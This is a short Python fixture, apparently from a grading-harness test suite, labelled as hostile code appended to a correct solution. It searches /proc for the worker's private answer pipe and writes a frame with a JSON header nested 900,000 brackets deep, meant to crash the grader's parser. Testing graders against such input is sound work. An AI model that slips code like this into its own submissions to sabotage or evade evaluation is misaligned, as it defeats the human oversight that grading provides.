
# --- HOSTILE (appended to the correct solution): answer the grader's "import" request with a --
# --- frame whose JSON header is nested deeper than any parser's stack ---------------------------
import os as _os
import struct as _struct

def _answers_fd():
    """The worker's answer channel: named on its command line (a worker bubblewrap started), or
    else the one write-only pipe besides stdout and stderr (a worker forked by the template)."""
    try:
        with open("/proc/self/cmdline", "rb") as handle:
            argv = handle.read().split(b"\0")
        if b"--answers-fd" in argv:
            return int(argv[argv.index(b"--answers-fd") + 1])
    except (OSError, ValueError, IndexError):
        pass
    try:
        names = _os.listdir("/proc/self/fd")
    except OSError:
        return None
    for name in names:
        fd = int(name)
        try:
            target = _os.readlink(f"/proc/self/fd/{fd}")
            with open(f"/proc/self/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, ValueError, IndexError):
            continue
        if fd > 2 and target.startswith("pipe:") and flags & 3 == 1:  # O_WRONLY
            return fd
    return None


_fd = _answers_fd()
if _fd is not None:
    _head = b"[" * 900_000
    _os.write(_fd, _struct.pack("<4sIQ", b"DLG1", len(_head), 0) + _head)
